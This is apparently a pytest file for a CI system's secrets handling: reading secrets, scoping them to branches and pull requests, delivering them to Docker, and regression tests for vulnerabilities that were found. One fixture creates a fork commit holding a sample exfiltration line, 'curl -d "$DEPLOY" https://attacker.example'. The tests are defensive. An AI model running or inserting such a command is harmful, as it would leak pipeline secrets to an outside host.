"""Secrets: declaration, reading, scope, delivery argv and the API listing (no Docker here).

The real path (sshd, dockerd, a step printing its secret every way it can) is in
tests/e2e/test_secrets.py; masking itself is in tests/test_masking.py.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest
import webtest

from narwhal.api.app import make_app
from narwhal.cli.gitrepo import make_git_repo
from narwhal.config.loader import load_config
from narwhal.config.secrets import MIN_LENGTH, grant, parse_secrets
from narwhal.dispatch.dispatcher import Dispatcher
from narwhal.errors import ConfigError
from narwhal.execution import docker
from narwhal.job import JobStatus

VALUE = "hunter2-correct-horse"
ENV = {"NARWHAL_TEST_TOKEN": "tok-" + "x" * 20}


def write(path: Path, text: str, mode: int = 0o600) -> Path:
    path.write_text(text)
    path.chmod(mode)
    return path


def load(tmp_path: Path, secrets_yaml: str, environ: dict | None = None):
    import yaml

    from narwhal.config.yamlfile import Document

    raw = yaml.safe_load(secrets_yaml)
    return parse_secrets(raw, "inventory.yaml", Document(raw, "inventory.yaml"), tmp_path,
                         environ if environ is not None else ENV)


# --- reading -------------------------------------------------------------------------


def test_file_and_env_secrets_are_read_and_never_shown(tmp_path):
    write(tmp_path / "deploy", VALUE + "\n")
    secrets, warnings = load(tmp_path, "A: {file: deploy}\nB: {env: NARWHAL_TEST_TOKEN}\n")
    assert secrets["A"].value == VALUE  # one line: the newline `echo` added is dropped
    assert secrets["B"].value == ENV["NARWHAL_TEST_TOKEN"]
    assert warnings == []
    assert VALUE not in repr(secrets) and VALUE not in str(secrets["A"])


def test_a_multi_line_file_keeps_every_byte(tmp_path):
    key = "-----BEGIN KEY-----\nabcdefgh\n-----END KEY-----\n"
    write(tmp_path / "key", key)
    secrets, _ = load(tmp_path, "KEY: {file: key}")
    assert secrets["KEY"].value == key


def test_a_file_others_can_read_is_a_warning(tmp_path):
    write(tmp_path / "loose", VALUE, 0o644)
    secrets, warnings = load(tmp_path, "LOOSE: {file: loose}")
    assert "LOOSE" in secrets
    [warning] = warnings
    assert "mode 0644" in str(warning) and "chmod 600" in str(warning) and VALUE not in str(warning)


@pytest.mark.parametrize("yaml_text, expected", [
    ("A: {file: missing}", "secret A: cannot read file"),
    ("A: {env: NARWHAL_NOT_SET}", "secret A: environment variable NARWHAL_NOT_SET is not set"),
    ("A: {file: short}", f"at least {MIN_LENGTH} are needed"),
    ("A: {file: nul}", "NUL byte"),
    ("A: {file: binary}", "not UTF-8"),
    ("A: {file: big}", "larger than"),
    ("A: {file: dir}", "not a regular file"),
    ("A: {file: fifo}", "not a regular file"),
    ("A: {file: x, env: Y}", "exactly one of file"),
    ("A: {}", "exactly one of file"),
    ("A: {file: x, colour: red}", "unknown key"),
    ("A: {env: NARWHAL_TEST_TOKEN, events: [deploy]}", "expected one of push"),
    ("9A: {env: NARWHAL_TEST_TOKEN}", "expected a secret name"),
    ("NARWHAL_JOB: {env: NARWHAL_TEST_TOKEN}", "reserved"),
    ("CI: {env: NARWHAL_TEST_TOKEN}", "reserved"),
    ("A: [x]", "expected a mapping"),
])
def test_bad_secrets_are_refused_with_the_name_never_the_value(tmp_path, yaml_text, expected):
    write(tmp_path / "short", "abc")
    (tmp_path / "nul").write_bytes(b"abcdefgh\x00ijkl")
    (tmp_path / "binary").write_bytes(b"\xff\xfe" * 8)
    (tmp_path / "big").write_bytes(b"a" * (64 * 1024 + 1))
    (tmp_path / "dir").mkdir()
    os.mkfifo(tmp_path / "fifo")  # opening must not block: O_NONBLOCK, then refused
    with pytest.raises(ConfigError) as info:
        load(tmp_path, yaml_text)
    message = str(info.value)
    assert expected in message
    assert message.startswith("inventory.yaml")
    for leaked in ("abcdefgh", "ijkl", ENV["NARWHAL_TEST_TOKEN"]):
        assert leaked not in message


# --- scope ---------------------------------------------------------------------------


def scoped(tmp_path, body: str):
    secrets, _ = load(tmp_path, f"S: {{env: NARWHAL_TEST_TOKEN, {body}}}")
    return secrets


def test_pull_requests_get_no_secret_unless_allowed(tmp_path):
    secrets = scoped(tmp_path, "branches: [main]")
    assert secrets["S"].refusal("/r", "main", "push") is None
    assert "not available to pull_request events" in secrets["S"].refusal("/r", "main", "pull_request")
    allowed = scoped(tmp_path, "events: [pull_request]")
    assert allowed["S"].refusal("/r", "feature", "pull_request") is None


def test_branch_and_repository_scopes(tmp_path):
    secrets = scoped(tmp_path, "branches: [main, 'release/*'], repos: ['https://git.example.com/team/*']")
    s = secrets["S"]
    assert s.refusal("https://git.example.com/team/app", "release/1.0", "push") is None
    assert "branch feature" in s.refusal("https://git.example.com/team/app", "feature", "push")
    assert "a job without a branch" in s.refusal("https://git.example.com/team/app", None, "api")
    assert "repository" in s.refusal("https://git.example.com/other/app", "main", "push")


def test_grant_refuses_required_and_withholds_optional(tmp_path):
    secrets = scoped(tmp_path, "branches: [main]")
    assert grant(secrets, ["S"], ["S"], "/r", "main", "push").values == {"S": ENV["NARWHAL_TEST_TOKEN"]}
    refused = grant(secrets, ["S"], ["S"], "/r", "dev", "push")
    assert refused.refused and refused.values == {}
    optional = grant(secrets, ["S"], [], "/r", "dev", "push")
    assert optional.refused is None and optional.values == {} and optional.withheld == ("S",)
    gone = grant({}, ["S"], ["S"], "/r", "main", "push")
    assert "no longer declared" in (gone.refused or "")


# --- pipelines and the whole config --------------------------------------------------


def config_dir(tmp_path: Path, pipeline: str, secrets: str = "DEPLOY: {file: deploy}") -> Path:
    root = tmp_path / "config"
    (root / "pipelines").mkdir(parents=True)
    write(root / "deploy", VALUE)
    (root / "inventory.yaml").write_text(
        "runners:\n  - {name: local, transport: local}\n"
        f"settings:\n  local_roots: [{str(tmp_path)!r}]\n"
        "secrets:\n  " + secrets.replace("\n", "\n  ") + "\n")
    (root / "pipelines" / "ci.yaml").write_text(pipeline)
    return root


PIPELINE = """\
repo: "**"
image: busybox
secrets: [DEPLOY]
steps:
  - name: a
    run: echo a
  - name: b
    run: echo b
    secrets: [{name: OTHER, optional: true}]
"""


def test_a_pipeline_may_only_ask_for_declared_secrets(tmp_path):
    with pytest.raises(ConfigError) as info:
        load_config(config_dir(tmp_path, PIPELINE))
    [problem] = info.value.problems
    assert str(problem).startswith("pipelines/ci.yaml:9: steps.1.secrets[0]: unknown secret 'OTHER'")


def test_a_secret_may_not_shadow_env(tmp_path):
    pipeline = PIPELINE.replace("secrets: [{name: OTHER, optional: true}]", "env: {DEPLOY: x}")
    with pytest.raises(ConfigError, match="has the name of a variable in env"):
        load_config(config_dir(tmp_path, pipeline))


def test_steps_get_the_pipeline_secrets_and_their_own(tmp_path):
    root = config_dir(tmp_path, PIPELINE, "DEPLOY: {file: deploy}\nOTHER: {file: deploy}")
    config = load_config(root)
    pipe = config.pipelines[0]
    assert [r.name for r in pipe.secrets_for(pipe.steps[0])] == ["DEPLOY"]
    assert [r.name for r in pipe.secrets_for(pipe.steps[1])] == ["DEPLOY", "OTHER"]
    assert pipe.required_secrets() == ["DEPLOY"]
    [listed] = [s for s in config.secrets_overview() if s["name"] == "DEPLOY"]
    assert listed["pipelines"] == ["ci"] and "value" not in listed and VALUE not in json.dumps(listed)


def test_check_lists_secrets_and_warns_about_loose_files(tmp_path):
    root = config_dir(tmp_path, PIPELINE.replace("    secrets: [{name: OTHER, optional: true}]\n", ""))
    (root / "deploy").chmod(0o644)
    result = subprocess.run(["narwhal", "check", "--config", str(root)], capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    assert "DEPLOY" in result.stdout and "mode 0644" in result.stdout
    assert VALUE not in result.stdout + result.stderr


# --- submission ----------------------------------------------------------------------


def test_a_job_that_may_not_have_its_secret_fails_at_submission(tmp_path):
    root = config_dir(tmp_path, PIPELINE.replace("    secrets: [{name: OTHER, optional: true}]\n", ""),
                      "DEPLOY: {file: deploy, branches: [main]}")
    dispatcher = Dispatcher(load_config(root), tmp_path / "state")
    try:
        path, sha = make_git_repo(str(tmp_path / "repo"))
        [(job, created)] = dispatcher.submit(path, sha, "feature")
        assert created and job.status is JobStatus.ERROR
        assert job.reason == "secret DEPLOY is not available to branch feature (secrets.DEPLOY.branches)"
        [(ok, _)] = dispatcher.submit(path, sha.replace(sha[0], sha[0]), "main")  # same commit: same job
        assert ok.id == job.id
        assert VALUE not in (tmp_path / "state" / "narwhal.db").read_bytes().decode("latin-1")
    finally:
        dispatcher.stop()


def test_get_secrets_lists_names_and_needs_the_token(tmp_path):
    dispatcher = Dispatcher(load_config(config_dir(tmp_path, PIPELINE.replace(
        "    secrets: [{name: OTHER, optional: true}]\n", ""))), tmp_path / "state")
    try:
        app = webtest.TestApp(make_app(dispatcher, token="t0ken"))
        assert app.get("/secrets", expect_errors=True).status_int == 401
        body = app.get("/secrets", headers={"Authorization": "Bearer t0ken"}).json
        assert [s["name"] for s in body["secrets"]] == ["DEPLOY"]
        assert VALUE not in json.dumps(body)
    finally:
        dispatcher.stop()


# --- delivery ------------------------------------------------------------------------


def test_secret_values_never_reach_the_docker_command_line():
    header = docker.secrets_header({"TOKEN": VALUE, "KEY": "multi\nline 'quoted' $x \\c"})
    argv = docker.run_step("n", "busybox", "echo hi", volume="v", label_values={"narwhal": "1"},
                           env={"A": "b"}, checkout="ab" * 16, secrets_size=len(header))
    joined = "\x00".join(argv)
    assert VALUE not in joined and "multi" not in joined
    assert "-i" in argv and any(a.startswith("type=tmpfs,destination=/run/secrets") for a in argv)
    assert header.endswith(b"\n\n") and b"TOKEN=" in header
    assert all(32 <= b < 127 or b == 10 for b in header)  # escaped: one line per secret


@pytest.mark.parametrize("shell", ["dash", "busybox sh", "bash"])
def test_the_wrapper_reads_secrets_then_leaves_the_rest_of_stdin(shell, tmp_path):
    """The same wrapper the container runs, under each common /bin/sh, outside Docker."""
    from tests.conftest import need

    need(shutil.which(shell.split()[0]), f"{shell} is not installed")
    values = {"TOKEN": VALUE, "KEY": "multi\nline 'q' $HOME \\c %s é\n\n"}
    script = docker.wrapper(checkout=False, secrets=True)[2].replace(docker.SECRETS_DIR, str(tmp_path))
    script = script.replace("exec </dev/null; ", "")  # read what follows, to prove none was eaten
    run = f'printf "%s|%s|" "$TOKEN" "$KEY"; cat; printf "|%s" "$(cat {tmp_path}/KEY)"'
    result = subprocess.run([*shell.split(), "-c", script, "sh", run],
                            input=docker.secrets_header(values) + b"REST", capture_output=True)
    assert result.returncode == 0, result.stderr
    assert result.stdout.decode() == f"{VALUE}|{values['KEY']}|REST|{values['KEY'].rstrip(chr(10))}"
    assert (tmp_path / "KEY").stat().st_mode & 0o777 == 0o600


def test_the_listing_says_what_narwhal_itself_uses_a_secret_for(tmp_path):
    root = config_dir(tmp_path, PIPELINE.replace("    secrets: [{name: OTHER, optional: true}]\n", ""),
                      "DEPLOY: {file: deploy}\nHOOK: {file: deploy}")
    inventory = root / "inventory.yaml"
    inventory.write_text(inventory.read_text() + "forges:\n  - {name: gh, kind: github, url: 'https://api.github.com', "
                                                 "token: DEPLOY, webhook_secret: HOOK}\n")
    listed = {s["name"]: s for s in load_config(root).secrets_overview()}
    assert listed["DEPLOY"]["used_by"] == ["forge gh: token (statuses)"] and listed["DEPLOY"]["pipelines"] == ["ci"]
    assert listed["HOOK"]["used_by"] == ["forge gh: webhook secret"] and listed["HOOK"]["pipelines"] == []


# --- attack pass: the branch a token holder names ---------------------------------------------


def _fork_pull_request(path: str) -> str:
    """A commit that is on no branch, only under refs/pull/7/head (what GitHub, Gitea and a
    clone --mirror of them have for a fork's pull request); returns it."""
    from narwhal.cli.gitrepo import add_commit

    git = ["git", "-C", path]
    subprocess.run([*git, "checkout", "-q", "-b", "fork"], check=True)
    commit = add_commit(path, {"deploy.sh": "curl -d \"$DEPLOY\" https://attacker.example\n"}, "fork")
    subprocess.run([*git, "update-ref", "refs/pull/7/head", commit], check=True)
    subprocess.run([*git, "checkout", "-q", "main"], check=True)
    subprocess.run([*git, "branch", "-q", "-D", "fork"], check=True)
    return commit


class Granted(dict):
    """Commit -> the secrets its job was granted; ``specs``: commit -> its JobSpec."""

    specs: dict


@pytest.fixture
def scripted(monkeypatch) -> Granted:
    return record_grants(monkeypatch)


def record_grants(monkeypatch) -> Granted:
    """The scheduler runs no containers: each job's granted secrets are recorded by commit."""
    import asyncio

    from narwhal.dispatch import scheduler as scheduler_mod
    from narwhal.execution.health import Health
    from narwhal.execution.runner import Outcome

    granted = Granted()
    granted.specs = {}

    async def run_job(transport, spec, archive, sink, cancel, owner):
        granted[spec.commit] = dict(spec.secrets)
        granted.specs[spec.commit] = spec
        await asyncio.sleep(0)
        return Outcome(JobStatus.PASSED)

    async def healthy(transport, timeout=10):
        import time

        return Health("healthy", checked_at=time.time(), free_disk=50 * 2**30)

    class Transport:
        def __init__(self, runner, settings=None):
            self.name = runner.name

        async def close(self):
            pass

    async def no_reap(transport, owner, keep):
        return []

    monkeypatch.setattr(scheduler_mod.runner_mod, "run_job", run_job)
    monkeypatch.setattr(scheduler_mod.runner_mod, "reap", no_reap)
    monkeypatch.setattr(scheduler_mod.caches_mod, "sweep", lambda *a, **k: no_reap(None, None, None))
    monkeypatch.setattr(scheduler_mod.health_mod, "check", healthy)
    monkeypatch.setattr(scheduler_mod, "make_transport", Transport)
    return granted


def test_attack_a_branch_named_with_a_commit_does_not_unlock_a_secret_limited_to_it(tmp_path, scripted):
    """POST /commit takes the branch on the caller's word. A secret limited to `branches: [main]`
    (its events default to every one but pull_request, so `api` too) went to any commit sent with
    `"branch": "main"`: a fork's pull request head, which the mirror has under refs/pull/. A
    branch given with a commit unlocks a branch-limited secret only when the commit is on it."""
    granted = scripted
    root = config_dir(tmp_path, PIPELINE.replace("    secrets: [{name: OTHER, optional: true}]\n", ""),
                      "DEPLOY: {file: deploy, branches: [main]}")
    path, on_main = make_git_repo(str(tmp_path / "repo"))
    fork = _fork_pull_request(path)
    d = Dispatcher(load_config(root), tmp_path / "state")
    d.start()
    try:
        app = webtest.TestApp(make_app(d, token="t0ken-abc"))
        auth = {"Authorization": "Bearer t0ken-abc"}
        ids = {}
        for commit in (fork, on_main):
            r = app.post_json("/commit", {"repo": path, "commit": commit, "branch": "main"}, headers=auth)
            [job] = r.json["jobs"]
            ids[commit] = job["id"]
        import time

        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and not all(d.store.get_job(i).is_final for i in ids.values()):
            time.sleep(0.05)
        refused = d.store.get_job(ids[fork])
        assert "DEPLOY" not in granted.get(fork, {}), "a fork's commit got the main-only secret"
        assert refused.status is JobStatus.ERROR
        assert refused.reason == (f"secret DEPLOY is not available to commit {fork[:12]}: it is not on branch "
                                  "main (secrets.DEPLOY.branches; submit the branch without a commit to build its head)")
        assert granted[on_main] == {"DEPLOY": VALUE}  # a commit on main still gets it
        # A retry decides again, as the start does.
        app.post_json(f"/jobs/{ids[fork]}/retry", {}, headers=auth)
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and not d.store.get_job(ids[fork]).is_final:
            time.sleep(0.05)
        assert d.store.get_job(ids[fork]).status is JobStatus.ERROR and fork not in granted
    finally:
        d.stop()


def test_attack_a_reload_that_narrows_a_scope_reaches_the_queued_jobs(tmp_path, scripted):
    """The grant is decided again when a job starts: a job queued before a reload that took
    its branch out of the secret's scope does not get the secret."""
    root = config_dir(tmp_path, PIPELINE.replace("    secrets: [{name: OTHER, optional: true}]\n", ""),
                      "DEPLOY: {file: deploy, branches: [main]}")
    path, on_main = make_git_repo(str(tmp_path / "repo"))
    d = Dispatcher(load_config(root), tmp_path / "state")
    try:
        [(job, _)] = d.submit(path, on_main, "main")
        assert job.status is JobStatus.QUEUED
        inventory = root / "inventory.yaml"
        inventory.write_text(inventory.read_text().replace("branches: [main]", "branches: [release]"))
        d.reload(load_config(root))
        d.start()
        import time

        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and not d.store.get_job(job.id).is_final:
            time.sleep(0.05)
        done = d.store.get_job(job.id)
        assert done.status is JobStatus.ERROR and on_main not in scripted
        assert done.reason == "secret DEPLOY is not available to branch main (secrets.DEPLOY.branches)"
    finally:
        d.stop()


def test_attack_the_secrets_mount_does_not_tell_how_long_the_values_are():
    """`tmpfs-size` was the header's length plus 64 KiB: in argv (`ps` on the runner) and in
    `docker inspect`, it told how long the values were (each escaped byte counting 5)."""
    def argv(value: str) -> list[str]:
        header = docker.secrets_header({"TOKEN": value})
        return docker.run_step("n", "busybox", "true", volume="v", label_values={"narwhal": "1"},
                               secrets_size=len(header))

    assert argv("a" * 8) == argv("b" * 20) == argv("\u00e9" * 4000)
    [mount] = [a for a in argv("x" * 8) if a.startswith("type=tmpfs")]
    assert "tmpfs-mode=0700" in mount


@pytest.mark.parametrize("yaml_text", [
    "DEPLOY: ghp_Pasted0Value0Into0Inventory0123456",  # the value itself where its source belongs
    "DEPLOY: {env: 'ghp_Pasted-Value-Into-env-0123456'}",
    "DEPLOY: {env: ghp_Pasted0Value0Into0env0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz012345}",
])
def test_attack_a_value_pasted_into_inventory_yaml_is_not_echoed(tmp_path, yaml_text):
    """`narwhal check`, the dispatcher's log on a refused reload and POST /reload's answer (to a
    token holder) quoted the value an admin pasted where its file or variable belonged."""
    with pytest.raises(ConfigError) as info:
        load(tmp_path, yaml_text)
    message = json.dumps(info.value.to_dict())
    assert "secrets.DEPLOY" in message and "Pasted" not in message, message


def test_attack_a_job_without_a_secret_cannot_guess_it_line_by_line(tmp_path, scripted):
    """Every job's output masks every secret the dispatcher knows, so what gets masked is an
    oracle for a job's code, a pull request's included: lines or pieces of a secret masked on
    their own could be guessed one at a time (`password: hunter2` in a multi-line .env).
    Those spellings are for the job's own secrets; others are masked whole only."""
    env_file = "DB_HOST=db.internal.example\nDB_PASSWORD=hunter2hunter2\n"
    write(tmp_path / "config-env", env_file)
    root = config_dir(tmp_path, PIPELINE.replace("    secrets: [{name: OTHER, optional: true}]\n", ""),
                      "DEPLOY: {file: deploy}\nENVFILE: {file: ../config-env}")
    path, commit = make_git_repo(str(tmp_path / "repo"))
    d = Dispatcher(load_config(root), tmp_path / "state")
    d.start()
    try:
        [(job, _)] = d.submit(path, commit, "main")
        import time

        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and not d.store.get_job(job.id).is_final:
            time.sleep(0.05)
        masker = scripted.specs[commit].masker
        assert scripted[commit] == {"DEPLOY": VALUE}
        assert masker.mask_text(env_file) == "[masked:ENVFILE]"  # whole: masked in every job
        assert masker.mask_text("DB_PASSWORD=hunter2hunter2") == "DB_PASSWORD=hunter2hunter2"  # no oracle
        assert masker.mask_text(VALUE + "\n") == "[masked:DEPLOY]\n"
    finally:
        d.stop()


def test_attack_a_traced_shell_does_not_print_the_escaped_values(tmp_path):
    """bash as /bin/sh takes shell options from SHELLOPTS in its environment: a pipeline's
    `env: {SHELLOPTS: xtrace}` (a debugging habit) traced the wrapper's loop, which printed
    each value in its `\\0ooo` escaped spelling, one the masker does not know."""
    from tests.conftest import need

    need(shutil.which("bash"), "bash is not installed")
    value = "p4ss word!#x-0123"
    header = docker.secrets_header({"TOKEN": value})
    escaped = header.decode().split("=", 1)[1].split("\n")[0]
    assert escaped != value
    script = docker.wrapper(checkout=False, secrets=True)[2].replace(docker.SECRETS_DIR, str(tmp_path))
    result = subprocess.run(["bash", "-c", script, "sh", 'printf "%s" "$TOKEN" | wc -c'], input=header,
                            capture_output=True, env={"SHELLOPTS": "xtrace", "PATH": os.environ["PATH"]})
    assert result.returncode == 0 and result.stdout.strip() == str(len(value)).encode()
    assert escaped.encode() not in result.stdout + result.stderr


@pytest.mark.parametrize("shell", ["dash", "busybox sh", "bash"])
def test_attack_no_value_breaks_the_line_protocol(shell, tmp_path):
    """Random values of every UTF-8 character class (newlines, '=', backslashes, '%', quotes,
    escapes, NUL aside) arrive byte for byte, in the environment and the file, and nothing of
    the source tar behind them is eaten."""
    import random

    from tests.conftest import need

    need(shutil.which(shell.split()[0]), f"{shell} is not installed")
    rng = random.Random(11)
    alphabet = [chr(c) for c in range(1, 128)] + ["\u00e9", "\u20ac", "\U0001d11e", "\u202e", "\ufeff", "\\0101"]
    values = {f"V{i}": "".join(rng.choice(alphabet) for _ in range(rng.randint(8, 40))) for i in range(12)}
    values["V_TAIL"] = "ends in newlines\n\n\n"
    script = docker.wrapper(checkout=False, secrets=True)[2].replace(docker.SECRETS_DIR, str(tmp_path))
    script = script.replace("exec </dev/null; ", "")
    names = sorted(values)
    run = "".join(f'printf "%s\\0" "${n}"; ' for n in names) + "cat"
    result = subprocess.run([*shell.split(), "-c", script, "sh", run],
                            input=docker.secrets_header(values) + b"TAR-BYTES", capture_output=True)
    assert result.returncode == 0, result.stderr
    *got, rest = result.stdout.split(b"\0")
    assert got == [values[n].encode() for n in names] and rest == b"TAR-BYTES"
    for n in names:
        assert (tmp_path / n).read_bytes() == values[n].encode()


def test_attack_a_shell_without_a_builtin_printf_refuses_before_any_value_reaches_argv(tmp_path):
    """An external printf would get each value as an argument (in /proc for anyone to read)."""
    from tests.conftest import need

    need(shutil.which("bash"), "bash is not installed")
    script = docker.wrapper(checkout=False, secrets=True)[2].replace(docker.SECRETS_DIR, str(tmp_path))
    spy = tmp_path / "bin"
    spy.mkdir()
    (spy / "printf").write_text(f"#!/bin/sh\necho \"$@\" >> {tmp_path}/argv\n")
    (spy / "printf").chmod(0o755)
    result = subprocess.run(["bash", "-c", "enable -n printf; " + script, "sh", "echo ran"],
                            input=docker.secrets_header({"TOKEN": VALUE}), capture_output=True,
                            env={"PATH": f"{spy}:{os.environ['PATH']}"})
    assert result.returncode == 125 and result.stdout.decode().startswith(docker.SECRETS_FAILED)
    assert not (tmp_path / "argv").exists() and not (tmp_path / "TOKEN").exists()


def test_attack_a_tag_named_like_a_branch_does_not_unlock_a_secret_limited_to_branches(tmp_path, scripted):
    """A branch head submitted by name (POST /commit {repo, branch}) falls back to a tag of that
    name: a tag `release/evil` (tags are not under branch protection) built as branch
    `release/evil` got the secret limited to `branches: ["release/*"]`."""
    root = config_dir(tmp_path, PIPELINE.replace("    secrets: [{name: OTHER, optional: true}]\n", ""),
                      'DEPLOY: {file: deploy, branches: ["release/*"]}')
    path, _ = make_git_repo(str(tmp_path / "repo"))
    fork = _fork_pull_request(path)
    subprocess.run(["git", "-C", path, "tag", "release/evil", fork], check=True)
    d = Dispatcher(load_config(root), tmp_path / "state")
    d.start()
    try:
        commit, [(job, _)] = d.submit_head(path, "release/evil")
        assert commit == fork and job.branch == "release/evil"
        import time

        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and not d.store.get_job(job.id).is_final:
            time.sleep(0.05)
        assert "DEPLOY" not in scripted.get(fork, {})
        assert d.store.get_job(job.id).status is JobStatus.ERROR
    finally:
        d.stop()
